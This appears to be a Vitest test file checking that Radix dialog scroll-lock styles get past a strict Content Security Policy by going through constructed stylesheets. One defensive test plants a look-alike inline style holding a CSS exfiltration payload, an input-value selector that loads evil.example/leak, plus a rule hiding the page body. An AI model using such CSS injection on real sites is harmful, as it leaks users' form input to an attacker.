// @vitest-environment happy-dom
import { Dialog, Theme } from '@radix-ui/themes';
import { act } from 'react';
import { createRoot } from 'react-dom/client';
import { afterEach, describe, expect, it } from 'vitest';
import { routeScrollLockStyles } from '../../renderer/src/csp/scroll-lock-styles.ts';

// happy-dom enforces no CSP, so "meets the CSP" is checked as "stays a <style> element in the
// DOM", which is what Chromium refuses under style-src without 'unsafe-inline' (the end-to-end
// tests check that in Chromium). The dialog is Radix's real one, so its real scroll lock runs.

(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

const styleElements = () => [...document.head.querySelectorAll('style')].map((s) => s.textContent ?? '');
const adoptedCss = () =>
  document.adoptedStyleSheets.map((sheet) => [...sheet.cssRules].map((rule) => rule.cssText).join('\n'));

afterEach(() => {
  document.head.innerHTML = '';
  document.body.innerHTML = '';
  document.adoptedStyleSheets = [];
});

describe("Radix's dialog scroll lock under the CSP", () => {
  it("an open dialog's scroll lock goes through the CSSOM, not an inline <style>", async () => {
    routeScrollLockStyles(document);
    const host = document.body.appendChild(document.createElement('div'));
    const root = createRoot(host);
    await act(async () => {
      root.render(
        <Theme>
          <Dialog.Root open>
            <Dialog.Content aria-describedby={undefined}>
              <Dialog.Title>Label size</Dialog.Title>
            </Dialog.Content>
          </Dialog.Root>
        </Theme>,
      );
    });
    expect(document.body.hasAttribute('data-scroll-locked')).toBe(true);
    expect(styleElements().filter((css) => /scroll-locked|interactivity/.test(css))).toEqual([]);
    expect(adoptedCss().join('\n')).toMatch(/data-scroll-locked/);
    await act(async () => root.unmount());
  });

  it('a <style> that only looks like the scroll lock stays an inline style, where the CSP refuses it', () => {
    routeScrollLockStyles(document);
    const lookAlike = document.createElement('style');
    lookAlike.textContent =
      'body[data-scroll-locked] { overflow: hidden !important; } input[value^="4"] { background: url(https://evil.example/leak) }';
    document.head.appendChild(lookAlike);
    const interactivityPlus = document.createElement('style');
    interactivityPlus.textContent =
      '.block-interactivity-1 {pointer-events: none;} .allow-interactivity-1 {pointer-events: all;} body { display: none }';
    document.head.appendChild(interactivityPlus);

    expect(document.head.contains(lookAlike)).toBe(true);
    expect(document.head.contains(interactivityPlus)).toBe(true);
    expect(adoptedCss()).toEqual([]);
  });
});
